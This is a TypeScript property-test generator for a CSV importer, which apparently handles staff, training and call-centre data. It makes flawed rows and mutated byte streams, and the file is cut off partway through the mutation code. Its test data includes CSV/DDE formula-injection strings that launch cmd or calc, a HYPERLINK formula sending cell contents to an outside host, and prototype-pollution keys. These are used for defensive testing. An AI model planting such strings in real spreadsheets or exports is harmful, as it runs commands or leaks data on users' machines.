// Generators for the property tests of the CSV importer (test/db/import-fuzz*.test.ts). A file is planned
// row by row — good rows, and rows with exactly one known flaw — and rendered the many ways people and tools
// write CSV (delimiters, quoting, BOM, CR/LF/CRLF mixed, blank lines, header names in either language and any
// case), together with the report the importer must give for it. On top of that, byte-level mutations make
// hostile files: wrong encodings, binary noise, NUL bytes, truncation, stray quotes, huge cells, formulas.
import fc from "fast-check";
import { addDays } from "../../analytics/dates";
import { COLUMNS, type ImportKind } from "../../analytics/import-rules";
import { formatNip } from "../../analytics/nip";

export type Person = { nip: string; fullName: string; active: boolean };
export type Course = { code: string; name: string };

/** What the database holds that a file refers to, and the days good rows may use. */
export type World = {
  people: Person[];
  courses: Course[];
  /** The WIB day today (the importer refuses later days, and a roster more than a year ahead). */
  today: string;
  intervalMinutes: number;
  /** Good training, call and interval rows count back from this day: long past, in no locked period. */
  pastDay: string;
  /** Good roster rows count on from this day: after every stored shift, well within a year. */
  futureDay: string;
  /** A day in an approved (locked) period, when the database has one. */
  lockedDay: string | null;
};

// Text that a spreadsheet would run, in the shapes seen in CSV-injection advisories.
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?q="&A1,"klik")',
  "+SUM(A1:A9)",
  "-1+1",
  "@foo",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  "+62 21 1500225",
  '=DDE("cmd";"/C calc";"!A0")',
  "-",
  "=",
  "@",
] as const;

/** Long enough to show a quadratic parser (a minute or more), short enough to keep a run fast when linear. */
export const LONG_NUMBER = `${"9".repeat(60_000)}x`;

const CHANNEL_TEXTS = [
  "telepon",
  "Telepon",
  "TELEPHONE",
  "phone",
  "SMS",
  "email",
  "E-mail",
  "surel",
  "webchat",
  "Web Chat",
  "chat",
  "media_sosial",
  "Media Sosial",
  "social media",
  "medsos",
];
const STATUS_TEXTS = [
  "lulus",
  "Lulus",
  "PASSED",
  "pass",
  "tidak lulus",
  "Tidak-Lulus",
  "failed",
  "fail",
  "selesai",
  "completed",
];
const STATE_TEXTS = [
  "login",
  "Siap",
  "SIBUK",
  "istirahat",
  "logout",
  "Available",
  "busy",
  "Break",
  "logged out",
  "ACW",
];
// Names that an object literal answers to without holding them.
const PROTOTYPE_NAMES = ["constructor", "__proto__", "toString", "valueOf", "hasOwnProperty", "isPrototypeOf"];
const BAD_NUMBERS = ["abc", "1e3", "NaN", "Infinity", "1.2.3", "--5", "0x10", LONG_NUMBER];

const noNul = (s: string) => !s.includes("\u0000");
/** Free text: formulas, any Unicode (no NUL, which a file may not hold), now and then a very long cell. */
export const freeText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...FORMULAS) },
  { weight: 3, arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }).filter(noNul) },
  { weight: 1, arbitrary: fc.constantFrom("", "NULL", "null", '{"a",b}', "\\N", "a\\b", "'") },
  { weight: 1, arbitrary: fc.integer({ min: 1000, max: 100_000 }).map((n) => "ä=".repeat(n / 2)) },
);

const pad2 = (n: number) => String(n).padStart(2, "0");
/** A WIB day in the notations the importer accepts. */
function dayText(day: string): fc.Arbitrary<string> {
  const [y, m, d] = day.split("-");
  return fc.constantFrom(
    day,
    `${d}/${m}/${y}`,
    `${Number(d)}/${Number(m)}/${y}`,
    `${d}-${m}-${y}`,
    `${d}.${m}.${y}`,
    ` ${d}/${m}/${y} `,
  );
}
function badDays(kind: ImportKind, world: World): string[] {
  // A roster and a hire date may lie up to a year ahead.
  const future = addDays(world.today, kind === "roster" || kind === "staff" ? 400 : 5);
  const [fy, fm, fd] = future.split("-");
  return [
    "31/02/2026",
    "2026-02-30",
    "13/13/2026",
    "05/01/26",
    "01/01/0000",
    "0000-01-01",
    "45000", // Excel's serial number of a date
    "2026/01/05",
    `${fd}/${fm}/${fy}`,
    ...(world.lockedDay && kind !== "training" && kind !== "staff" ? [world.lockedDay] : []),
  ];
}
const decimalText = (tenths: number) =>
  fc.constantFrom(String(tenths / 10), String(tenths / 10).replace(".", ","), ` ${tenths / 10} `);
const integerText = (n: number) => fc.constantFrom(String(n), ` ${n}`, `+${n}`);
function clockText(minutes: number): fc.Arbitrary<string> {
  const h = Math.floor(minutes / 60);
  const m = minutes % 60;
  return fc.constantFrom(
    `${pad2(h)}:${pad2(m)}`,
    `${h}:${pad2(m)}`,
    `${pad2(h)}.${pad2(m)}`,
    `${pad2(h)}:${pad2(m)}:00`,
  );
}
function nipText(nip: string): fc.Arbitrary<string> {
  return fc.constantFrom(
    nip,
    formatNip(nip),
    ` ${nip} `,
    nip.replace(/(\d{6})/g, "$1 ").trim(),
    `${nip.slice(0, 8)}  ${nip.slice(8)}`,
  );
}
/** An 18-digit NIP the way Excel and careless typing leave it: each is refused. */
export function badNips(nip: string): string[] {
  return [
    `${nip[0]}.${nip.slice(1, 6)}E+17`,
    `${nip[0]},${nip.slice(1, 6)}E+17`,
    `${nip[0]}.${nip.slice(1, 3)}e17`,
    `${nip[0]}.${nip.slice(1)}E+17`,
    `'${nip}`,
    formatNip(nip).replaceAll(" ", "."),
    formatNip(nip).replaceAll(" ", "-"),
    nip.slice(0, 17),
    `${nip}1`,
    `${nip.slice(0, 17)}O`,
    `=${nip}`,
    `+${nip}`,
    `-${nip}`,
    `@${nip}`,
    "000000000000000000",
    "200001012020012999", // well formed, but nobody has it
  ];
}
function sameName(name: string): fc.Arbitrary<string> {
  return fc.constantFrom(name, name.toUpperCase(), `  ${name} `, name.replace(" ", "   "));
}

/** A row's cells by column key; `warn` the keys a warning is expected on (see `dependsOn`). */
type Values = { values: Record<string, string>; warn: string[] };
/** A warning on the first key is only given when the row's value of the second key was read. */
const WARNING_DEPENDS_ON: Record<string, string[]> = {
  name: ["nip"],
  courseName: ["courseCode"],
  ahtSeconds: ["answered", "ahtSeconds"],
};

type Layout = { columns: string[] }; // the column keys the header has, in the file's order

/** The optional columns a file has (calls: exactly one of loginHours / loginSeconds). */
function layoutOf(kind: ImportKind): fc.Arbitrary<Layout> {
  const specs = COLUMNS[kind];
  const required = specs.filter((s) => s.required).map((s) => s.key);
  const optional = specs
    .filter((s) => !s.required && s.key !== "loginHours" && s.key !== "loginSeconds")
    .map((s) => s.key);
  return fc
    .tuple(
      fc.subarray(optional),
      kind === "calls" ? fc.constantFrom(["loginHours"], ["loginSeconds"]) : fc.constant([] as string[]),
    )
    .chain(([chosen, login]) => {
      const all = [...required, ...chosen, ...login];
      return fc.shuffledSubarray(all, { minLength: all.length, maxLength: all.length });
    })
    .map((columns) => ({ columns }));
}

function personFor(world: World, i: number, activeOnly: boolean): Person {
  const people = activeOnly ? world.people.filter((p) => p.active) : world.people;
  const person = people[(i * 7) % people.length];
  if (!person) throw new Error("the world has nobody");
  return person;
}

/** The good cells of data row `i` (0-based among data rows); keys that must be unique are derived from `i`. */
function goodValues(kind: ImportKind, world: World, layout: Layout, i: number): fc.Arbitrary<Values> {
  const has = (key: string) => layout.columns.includes(key);
  const nameOf = (person: Person) =>
    fc.oneof(
      fc.constant({ text: "", warn: false }),
      sameName(person.fullName).map((text) => ({ text, warn: false })),
      fc.constantFrom(...FORMULAS.filter((f) => f.trim() !== "")).map((text) => ({ text, warn: true })),
    );
  const channel = fc.constantFrom(...CHANNEL_TEXTS);
  if (kind === "staff") {
    // A new person per row (so no stored birth date or open work is in the way): born on a day derived from i.
    const nip = `${addDays("1994-03-01", i * 3).replaceAll("-", "")}201803${1 + (i % 2)}${String(900 + (i % 99)).padStart(3, "0")}`;
    return fc
      .record({
        nip: nipText(nip),
        name: fc.constantFrom(
          "Rina Marlina",
          "  Agus  Salim ",
          "Ni Luh Putu Ayu",
          "=cmd|' /C calc'!A0",
          "O'Brien-Siregar",
        ),
        birthPlace: fc.constantFrom("Jakarta", " Kab. Bogor ", "Medan", "+62 kota", "Denpasar"),
        grade: fc.constantFrom("III/a", "iii/a", "Penata Muda III/a", " penata muda tingkat i iii/b ", "IV/a", "II/d"),
        position: fc.constantFrom(
          "petugas_layanan",
          "Petugas Layanan",
          " PENILAI ",
          "Koordinator Tim Kerja (Supervisor)",
          "Supervisor",
          "ketua-tim",
        ),
        team: fc.constantFrom(
          "layanan_informasi",
          "Tim Kerja Layanan Informasi dan Pengaduan",
          "Manajemen Layanan",
          "penjamin-kualitas",
          " tim kerja penjamin kualitas layanan ",
        ),
        group: fc.constantFrom("", "Regu 1", "  regu   2 ", "Regu Pagi (Telepon)", "2 Malam"),
        hireDate: fc.oneof(fc.constant(""), dayText(addDays(world.pastDay, -i))),
        active: fc.constantFrom("", "ya", "Yes", " YA ", "y"),
      })
      .map((values) => ({ values, warn: [] }));
  }
  if (kind === "training") {
    const person = personFor(world, i, false);
    const course = world.courses[i % world.courses.length];
    if (!course) throw new Error("the world has no course");
    const end = addDays(world.pastDay, -i);
    return fc
      .record({
        nip: nipText(person.nip),
        name: nameOf(person),
        courseCode: fc.constantFrom(course.code, course.code.toLowerCase(), ` ${course.code} `),
        courseName: fc.oneof(
          fc.constant({ text: "", warn: false }),
          sameName(course.name).map((text) => ({ text, warn: false })),
          fc.constantFrom("=cmd|' /C calc'!A0", "Pelatihan lain").map((text) => ({ text, warn: true })),
        ),
        startDate: fc.oneof(
          fc.constant(""),
          fc.integer({ min: 0, max: 5 }).chain((k) => dayText(addDays(end, -k))),
        ),
        endDate: dayText(end),
        hours: fc.oneof(fc.constant(""), fc.integer({ min: 5, max: 10_000 }).chain(decimalText)),
        status: fc.constantFrom(...STATUS_TEXTS),
        score: fc.oneof(fc.constant(""), fc.integer({ min: 0, max: 1000 }).chain(decimalText)),
        provider: freeText,
        certificateNumber: freeText,
      })
      .map((r) => ({
        values: { ...r, name: r.name.text, courseName: r.courseName.text },
        warn: [...(r.name.warn ? ["name"] : []), ...(r.courseName.warn ? ["courseName"] : [])],
      }));
  }
  if (kind === "calls") {
    const person = personFor(world, i, false);
    return fc
      .record({
        nip: nipText(person.nip),
        name: nameOf(person),
        day: dayText(addDays(world.pastDay, -i)),
        channel,
        calls: fc.integer({ min: 0, max: 5000 }).chain(integerText),
        loginHours: fc.integer({ min: 10, max: 240 }).chain(decimalText),
        loginSeconds: fc.integer({ min: 3600, max: 86_400 }).chain(integerText),
        talkSeconds: fc.oneof(fc.constant(""), fc.integer({ min: 0, max: 3600 }).chain(integerText)),
      })
      .map((r) => ({ values: { ...r, name: r.name.text }, warn: r.name.warn ? ["name"] : [] }));
  }
  if (kind === "intervals") {
    const slots = (24 * 60) / world.intervalMinutes;
    const day = addDays(world.pastDay, -Math.floor(i / slots));
    const start = (i % slots) * world.intervalMinutes;
    return fc
      .integer({ min: 0, max: 2000 })
      .chain((offered) =>
        fc.integer({ min: 0, max: offered }).chain((answered) =>
          fc.record({
            day: dayText(day),
            intervalStart: clockText(start),
            channel,
            offered: integerText(offered),
            answered: integerText(answered),
            abandoned: fc.integer({ min: 0, max: offered - answered }).chain(integerText),
            answeredWithinTarget: fc.oneof(fc.constant(""), fc.integer({ min: 0, max: answered }).chain(integerText)),
            aht:
              answered > 0
                ? fc
                    .integer({ min: 0, max: 144_000 })
                    .chain(decimalText)
                    .map((text) => ({ text, warn: false }))
                : fc.oneof(
                    fc.constantFrom("", "0", "0,0").map((text) => ({ text, warn: false })),
                    fc
                      .integer({ min: 1, max: 144_000 })
                      .chain(decimalText)
                      .map((text) => ({ text, warn: true })),
                  ),
          }),
        ),
      )
      .map(({ aht, ...r }) => ({
        values: { ...r, ahtSeconds: aht.text },
        warn: aht.warn && has("ahtSeconds") ? ["ahtSeconds"] : [],
      }));
  }
  if (kind === "states") {
    // One period per row, on its own day (rows of one person never overlap), all within that day.
    const person = personFor(world, i, false);
    const day = addDays(world.pastDay, -i);
    const periods: [number, number][] = [
      [7 * 60, 9 * 60 + 30],
      [12 * 60, 13 * 60],
      [15 * 60 + 5, 23 * 60],
      [0, 30],
    ];
    const dated = (d: string, minutes: number) =>
      fc.tuple(dayText(d), clockText(minutes)).map(([date, clock]) => `${date.trim()} ${clock}`);
    return fc
      .constantFrom(...periods)
      .chain(([start, end]) =>
        fc.record({
          nip: nipText(person.nip),
          name: nameOf(person),
          channel,
          state: fc.constantFrom(...STATE_TEXTS),
          day: has("day") ? dayText(day) : fc.constant(""),
          start: has("day") ? fc.oneof(clockText(start), dated(day, start)) : dated(day, start),
          end: fc.oneof(clockText(end), dated(day, end)),
        }),
      )
      .map((r) => ({ values: { ...r, name: r.name.text }, warn: r.name.warn ? ["name"] : [] }));
  }
  const person = personFor(world, i, true);
  const shifts: [number, number][] = [
    [7 * 60, 15 * 60],
    [15 * 60, 23 * 60],
    [22 * 60, 6 * 60],
    [16 * 60, 24 * 60],
    [8 * 60, 16 * 60 + 30],
  ];
  return fc
    .constantFrom(...shifts)
    .chain(([start, end]) =>
      fc.record({
        nip: nipText(person.nip),
        name: nameOf(person),
        day: dayText(addDays(world.futureDay, i)),
        start: clockText(start),
        end: end === 24 * 60 ? fc.constantFrom("24:00", "24.00", "24:00:00") : clockText(end),
        channel,
      }),
    )
    .map((r) => ({ values: { ...r, name: r.name.text }, warn: r.name.warn ? ["name"] : [] }));
}

/** Values of `key` that are refused, each with one error on that column and nothing else. */
function badValues(kind: ImportKind, key: string, world: World): string[] {
  const formulas = FORMULAS.filter((f) => f.trim() !== "");
  // An empty required cell is an error on that column; AHT may be empty when nothing was answered, and the
  // login column of call statistics is required by the row although the header spec lets either be missing.
  const required =
    (COLUMNS[kind].find((s) => s.key === key)?.required && key !== "ahtSeconds") ||
    key === "loginHours" ||
    key === "loginSeconds"
      ? [""]
      : [];
  const person = world.people[0];
  const specific: Record<string, string[]> = {
    // For a staff file, a well-formed NIP nobody has is a new person: not a mistake.
    nip: person ? badNips(person.nip).filter((n) => kind !== "staff" || n !== "200001012020012999") : [],
    grade: ["III/e", "V/a", "Penata", "3a", ...PROTOTYPE_NAMES],
    position: ["Direktur", "petugas", "supervisor!", ...PROTOTYPE_NAMES],
    team: ["Tim Kerja Lain", "layanan", "tim", ...PROTOTYPE_NAMES],
    hireDate: badDays(kind, world),
    active: ["mungkin", "2", "ya!", ...PROTOTYPE_NAMES],
    group: ["R".repeat(41), `Regu ${"x".repeat(40)}`, "(Regu 1)", "- Regu 1"],
    courseCode: ["XYZ-99", "TLI-01X", "constructor"],
    endDate: badDays(kind, world),
    startDate: badDays(kind, world),
    day: badDays(kind, world),
    hours: ["0,4", "1001", "-1", ...BAD_NUMBERS],
    score: ["101", "-0,5", "100,01", ...BAD_NUMBERS],
    status: [...PROTOTYPE_NAMES, "lulus!", "tidak", "ok"],
    state: [...PROTOTYPE_NAMES, "makan siang", "sibuk!", "on-line"],
    channel: [...PROTOTYPE_NAMES, "fax", "telepon1", "tele pon"],
    calls: ["-3", "5001", "2,5", ...BAD_NUMBERS],
    loginHours: ["25", "-1", "24,1", ...BAD_NUMBERS],
    loginSeconds: ["86401", "-1", "3600,5", ...BAD_NUMBERS],
    talkSeconds: ["86401", "-1", "1,5", ...BAD_NUMBERS],
    intervalStart: ["25:00", "7", "07:60", "24:00", "7am", "07:10"],
    offered: ["-1", "50001", "1,5", ...BAD_NUMBERS],
    answered: ["-1", "50001", "1,5", ...BAD_NUMBERS],
    abandoned: ["-1", "50001", "1,5", ...BAD_NUMBERS],
    answeredWithinTarget: ["-1", "50001", "1,5", ...BAD_NUMBERS],
    ahtSeconds: ["-1", "14401", ...BAD_NUMBERS],
    start: ["25:00", "24:00", "7", "07:60", "noon", ...(kind === "states" ? ["31/02/2026 07:00", "07:00:61"] : [])],
    end: ["25:00", "7", "07:60", "24:30", ...(kind === "states" ? ["2026-13-01 07:00"] : [])],
  };
  return [...required, ...(specific[key] ?? []), ...formulas];
}
/** Columns whose bad values are errors (free text and names are never wrong, names only warn). */
const CHECKED = (key: string) => !["name", "courseName", "provider", "certificateNumber", "birthPlace"].includes(key);

type Flaw =
  | { type: "value"; key: string; value: string }
  | { type: "extra"; value: string }
  | { type: "duplicate"; of: number }
  | { type: "unclosed" };

export type PlannedRow = {
  values: Record<string, string>;
  warn: string[];
  flaw: Flaw | null;
  /** Cells of the ignored columns, in order. */
  ignored: string[];
  /** Blank lines before this row: "", spaces, or delimiters only. */
  blanksBefore: ("empty" | "spaces" | "delimiters")[];
};

export type FilePlan = {
  kind: ImportKind;
  layout: Layout;
  /** Header text per column key, as written (with its spaces). */
  headerText: Record<string, string>;
  /** Ignored columns: header text, and where they sit among the known ones. */
  ignoredHeaders: string[];
  ignoredAt: number[];
  rows: PlannedRow[];
  delimiter: "," | ";" | "\t";
  quoting: "needed" | "always" | "random";
  quoteSeed: number[];
  lineEndings: ("\n" | "\r\n" | "\r")[];
  finalEnding: boolean;
  bom: boolean;
};

function headerTextFor(kind: ImportKind, key: string): fc.Arbitrary<string> {
  const names = COLUMNS[kind].find((s) => s.key === key)?.names ?? [key];
  return fc
    .tuple(
      fc.constantFrom(...names),
      fc.constantFrom("lower", "upper", "title"),
      fc.constantFrom("_", " ", "-"),
      fc.constantFrom("", " ", "  "),
    )
    .map(([name, casing, joiner, space]) => {
      const words = name.split("_");
      const cased = words.map((w) =>
        casing === "upper" ? w.toUpperCase() : casing === "title" ? `${w.charAt(0).toUpperCase()}${w.slice(1)}` : w,
      );
      return `${space}${cased.join(joiner)}${space}`;
    });
}
const IGNORED_HEADERS = [
  "Catatan",
  "=cmd|' /C calc'!A0",
  "+SUM(A1:A2)",
  "@foo",
  "-1+1",
  "Keterangan; lain",
  "kolom ünïcödé ✓",
  "",
];

function rowArbitrary(
  kind: ImportKind,
  world: World,
  layout: Layout,
  i: number,
  ignoredCount: number,
): fc.Arbitrary<PlannedRow> {
  const flawable = layout.columns.filter(CHECKED);
  const flaw: fc.Arbitrary<Flaw | null> = fc.oneof(
    { weight: 4, arbitrary: fc.constant(null) },
    {
      weight: 3,
      arbitrary: fc
        .constantFrom(...flawable)
        .chain((key) =>
          fc.constantFrom(...badValues(kind, key, world)).map((value): Flaw => ({ type: "value", key, value })),
        ),
    },
    { weight: 1, arbitrary: fc.constantFrom("88,5", "=1+1", "x").map((value): Flaw => ({ type: "extra", value })) },
    { weight: 1, arbitrary: fc.nat().map((of): Flaw => ({ type: "duplicate", of })) },
  );
  return fc
    .record({
      good: goodValues(kind, world, layout, i),
      flaw,
      ignored: fc.array(freeText, { minLength: ignoredCount, maxLength: ignoredCount }),
      blanksBefore: fc.oneof(
        { weight: 5, arbitrary: fc.constant([] as PlannedRow["blanksBefore"]) },
        {
          weight: 1,
          arbitrary: fc.array(fc.constantFrom("empty" as const, "spaces" as const, "delimiters" as const), {
            maxLength: 2,
          }),
        },
      ),
    })
    .map(({ good, flaw: f, ignored, blanksBefore }) => ({
      values: good.values,
      warn: good.warn,
      flaw: f,
      ignored,
      blanksBefore,
    }));
}

/** A planned file of `kind`: up to `maxRows` data rows, about a third of them flawed. */
export function filePlan(kind: ImportKind, world: World, maxRows = 12): fc.Arbitrary<FilePlan> {
  return layoutOf(kind).chain((layout) =>
    fc
      .record({
        headerTexts: fc.tuple(...layout.columns.map((key) => headerTextFor(kind, key))),
        ignoredHeaders: fc.subarray(IGNORED_HEADERS, { maxLength: 3 }),
        rowCount: fc.integer({ min: 1, max: maxRows }),
        unclosedLast: fc.boolean(),
        delimiter: fc.constantFrom(",", ";", "\t"),
        quoting: fc.constantFrom("needed", "always", "random"),
        endingStyle: fc.constantFrom("\n", "\r\n", "\r", "mixed"),
        finalEnding: fc.boolean(),
        bom: fc.boolean(),
        seed: fc.array(fc.nat(), { minLength: 64, maxLength: 64 }),
      })
      .chain((p) => {
        const ignoredHeaders = p.ignoredHeaders.map((h, j) => (h === "" ? "" : `${h} ${j + 1}`));
        return fc
          .tuple(
            fc.tuple(
              ...Array.from({ length: p.rowCount }, (_, i) =>
                rowArbitrary(kind, world, layout, i, ignoredHeaders.length),
              ),
            ),
            fc.array(fc.nat({ max: layout.columns.length }), {
              minLength: ignoredHeaders.length,
              maxLength: ignoredHeaders.length,
            }),
          )
          .map(([rows, ignoredAt]): FilePlan => {
            const planned = rows.map((r) => ({ ...r }));
            // A duplicate repeats an earlier good row; without one it is a good row itself.
            planned.forEach((row, index) => {
              if (row.flaw?.type !== "duplicate") return;
              const earlier = planned
                .slice(0, index)
                .map((r, k) => ({ r, k }))
                .filter(({ r }) => r.flaw === null);
              const pick = earlier[row.flaw.of % Math.max(1, earlier.length)];
              if (!pick) {
                row.flaw = null;
                return;
              }
              row.values = { ...pick.r.values };
              row.warn = [...pick.r.warn];
              row.flaw = { type: "duplicate", of: pick.k };
            });
            const last = planned.at(-1);
            if (p.unclosedLast && last && last.flaw === null) last.flaw = { type: "unclosed" };
            const lineCount = 1 + planned.reduce((n, r) => n + 1 + r.blanksBefore.length, 0);
            const endings = Array.from({ length: lineCount }, (_, k) =>
              p.endingStyle === "mixed"
                ? ((["\n", "\r\n", "\r"] as const)[(p.seed[k % 64] ?? 0) % 3] ?? "\n")
                : p.endingStyle,
            );
            return {
              kind,
              layout,
              headerText: Object.fromEntries(layout.columns.map((key, k) => [key, p.headerTexts[k] ?? key])),
              ignoredHeaders,
              ignoredAt,
              rows: planned,
              delimiter: p.delimiter,
              quoting: p.quoting,
              quoteSeed: p.seed,
              lineEndings: endings,
              finalEnding: p.finalEnding,
              bom: p.bom,
            };
          });
      }),
  );
}

export type ExpectedIssue = { row: number; column: string };
export type Rendered = {
  text: string;
  expected: {
    rows: number;
    valid: number;
    errors: ExpectedIssue[];
    warnings: ExpectedIssue[];
    ignoredColumns: string[];
    /** Row number → the row an error says it repeats. */
    duplicates: Map<number, number>;
  };
};

const sortIssues = (issues: ExpectedIssue[]) =>
  [...issues].sort((a, b) => a.row - b.row || a.column.localeCompare(b.column));
export const issueKeys = (issues: readonly ExpectedIssue[]) =>
  sortIssues(issues.map(({ row, column }) => ({ row, column })));

/** The file's text and the report the importer must give for it. */
export function render(plan: FilePlan): Rendered {
  const d = plan.delimiter;
  let quoteCounter = 0;
  const cell = (text: string) => {
    const seed = plan.quoteSeed[quoteCounter++ % plan.quoteSeed.length] ?? 0;
    const needed = /[,;\t"\r\n]/.test(text);
    const quote = needed || plan.quoting === "always" || (plan.quoting === "random" && seed % 2 === 0);
    return quote ? `"${text.replaceAll('"', '""')}"` : text;
  };
  // The known columns with the ignored ones slotted in.
  const order: ({ key: string } | { ignored: number })[] = plan.layout.columns.map((key) => ({ key }));
  plan.ignoredAt.forEach((at, j) => {
    order.splice(Math.min(at + j, order.length), 0, { ignored: j });
  });
  const columnText = (key: string) => (plan.headerText[key] ?? key).trim();
  const lines: string[] = [
    order
      .map((o) => cell("key" in o ? (plan.headerText[o.key] ?? o.key) : (plan.ignoredHeaders[o.ignored] ?? "")))
      .join(d),
  ];
  const errors: ExpectedIssue[] = [];
  const warnings: ExpectedIssue[] = [];
  const duplicates = new Map<number, number>();
  const rowNumberOf: number[] = [];
  let rows = 0;
  let valid = 0;
  for (const [index, row] of plan.rows.entries()) {
    for (const blank of row.blanksBefore) {
      lines.push(blank === "empty" ? "" : blank === "spaces" ? "   " : d.repeat(order.length - 1));
    }
    const rowNumber = lines.length + 1;
    rowNumberOf[index] = rowNumber;
    rows += 1;
    const values = { ...row.values };
    const flaw = row.flaw;
    if (flaw?.type === "value") values[flaw.key] = flaw.value;
    const cells = order.map((o) => cell("key" in o ? (values[o.key] ?? "") : (row.ignored[o.ignored] ?? "")));
    if (flaw?.type === "extra") cells.push(cell(flaw.value));
    if (flaw?.type === "unclosed") cells[cells.length - 1] = '"tanpa tanda kutip penutup';
    lines.push(cells.join(d));

    if (flaw?.type === "extra" || flaw?.type === "unclosed") {
      errors.push({ row: rowNumber, column: "" });
      continue;
    }
    const flawed = flaw?.type === "value" ? flaw.key : null;
    for (const key of row.warn) {
      if (!plan.layout.columns.includes(key)) continue;
      const needs = WARNING_DEPENDS_ON[key] ?? [];
      if (flawed && needs.includes(flawed)) continue;
      warnings.push({ row: rowNumber, column: columnText(key) });
    }
    if (flawed) {
      errors.push({ row: rowNumber, column: columnText(flawed) });
    } else if (flaw?.type === "duplicate") {
      const keyFields = {
        staff: ["nip"],
        training: ["nip", "courseCode", "endDate"],
        calls: ["nip", "day", "channel"],
        intervals: ["day", "channel", "intervalStart"],
        roster: ["nip", "day", "start"],
        states: ["nip", "start"],
      }[plan.kind];
      errors.push({ row: rowNumber, column: keyFields.map(columnText).join(", ") });
      duplicates.set(rowNumber, rowNumberOf[flaw.of] ?? 0);
    } else {
      valid += 1;
    }
  }
  // Line endings: a CR followed by an empty line that starts with LF would read as one CRLF.
  let text = plan.bom ? "\uFEFF" : "";
  lines.forEach((line, k) => {
    let ending: string = plan.lineEndings[k] ?? "\n";
    const next = lines[k + 1];
    if (ending === "\r" && next !== undefined && next === "") ending = "\r\n";
    if (k === lines.length - 1 && !plan.finalEnding) ending = "";
    text += line + ending;
  });
  return {
    text,
    expected: {
      rows,
      valid,
      errors: sortIssues(errors),
      warnings: sortIssues(warnings),
      ignoredColumns: order
        .map((o) => ("ignored" in o ? (plan.ignoredHeaders[o.ignored] ?? "").trim() : ""))
        .filter((h) => h !== ""),
      duplicates,
    },
  };
}

// --- Hostile bytes -------------------------------------------------------------------------------------

const encoder = new TextEncoder();
/** Latin-1 / Windows-1252 bytes: what Excel's plain "CSV (Comma delimited)" writes for é, ü, “ ” and –. */
const latin1 = (text: string) => Uint8Array.from([...text].map((c) => c.charCodeAt(0) & 0xff));
function utf16(text: string, littleEndian: boolean): Uint8Array {
  const out = new Uint8Array(2 + text.length * 2);
  out.set(littleEndian ? [0xff, 0xfe] : [0xfe, 0xff]);
  for (let k = 0; k < text.length; k++) {
    const unit = text.charCodeAt(k);
    out[2 + 2 * k] = littleEndian ? unit & 0xff : unit >> 8;
    out[3 + 2 * k] = littleEndian ? unit >> 8 : unit & 0xff;
  }
  return out;
}
const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};
const spliceBytes = (bytes: Uint8Array, at: number, insert: Uint8Array, remove = 0) => {
  const k = bytes.length === 0 ? 0 : at % (bytes.length + 1);
  return concat(bytes.subarray(0, k), insert, bytes.subarray(Math.min(bytes.length, k + remove)));
};

export type Mutation =
  | { op: "insertBytes"; at: number; bytes: Uint8Array }
  | { op: "insertText"; at: number; text: string }
  | { op: "latin1"; at: number; text: string }
  | { op: "nul"; at: number }
  | { op: "truncate"; at: number }
  | { op: "quote"; at: number }
  | { op: "delimiters"; from: string; to: string; every: number }
  | { op: "endings"; to: string }
  | { op: "huge"; at: number; length: number; char: string }
  | { op: "utf16"; littleEndian: boolean }
  | { op: "duplicateLine"; line: number }
  | { op: "dropLine"; line: number }
  | { op: "prefix"; bytes: Uint8Array };

// Mostly damage to the text (which the importer reads and must report row by row); now and then damage to the
// encoding (which it refuses whole).
export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.record({
      op: fc.constant("insertText" as const),
      at: fc.nat(),
      text: fc.oneof(
        fc.constantFrom(...FORMULAS, ";", ",", "\t", '"', '""', "\r", "\n", "\r\n", "\uFEFF", "\u2028", "😀"),
        fc.string({ unit: "grapheme", maxLength: 12 }).filter(noNul),
      ),
    }),
  },
  { weight: 2, arbitrary: fc.record({ op: fc.constant("truncate" as const), at: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ op: fc.constant("quote" as const), at: fc.nat() }) },
  {
    weight: 2,
    arbitrary: fc.record({
      op: fc.constant("delimiters" as const),
      from: fc.constantFrom(",", ";", "\t"),
      to: fc.constantFrom(",", ";", "\t", "|"),
      every: fc.integer({ min: 1, max: 4 }),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      op: fc.constant("endings" as const),
      to: fc.constantFrom("\n", "\r\n", "\r", "\n\r", "\r\r\n"),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant("huge" as const),
      at: fc.nat(),
      length: fc.integer({ min: 10_000, max: 300_000 }),
      char: fc.constantFrom("x", "9", '"', ";", "é"),
    }),
  },
  { weight: 2, arbitrary: fc.record({ op: fc.constant("duplicateLine" as const), line: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ op: fc.constant("dropLine" as const), line: fc.nat() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant("insertBytes" as const),
      at: fc.nat(),
      bytes: fc.uint8Array({ minLength: 1, maxLength: 24 }),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant("latin1" as const),
      at: fc.nat(),
      text: fc.constantFrom("André Müller", "Señor; “kutip” – ‰", "Jl. Jend. A. Yani Kav. 15 ±", "\u00e9"),
    }),
  },
  { weight: 1, arbitrary: fc.record({ op: fc.constant("nul" as const), at: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ op: fc.constant("utf16" as const), littleEndian: fc.boolean() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant("prefix" as const),
      bytes: fc.constantFrom(
        Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]), // an .xlsx (zip) uploaded as CSV
        encoder.encode("%PDF-1.7\n%\u00e2\u00e3\n"),
        Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), // an old .xls
        Uint8Array.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), // two BOMs
      ),
    }),
  },
);

/** Applies a mutation to a file's bytes. */
export function mutate(bytes: Uint8Array, m: Mutation): Uint8Array {
  const text = () => new TextDecoder().decode(bytes);
  switch (m.op) {
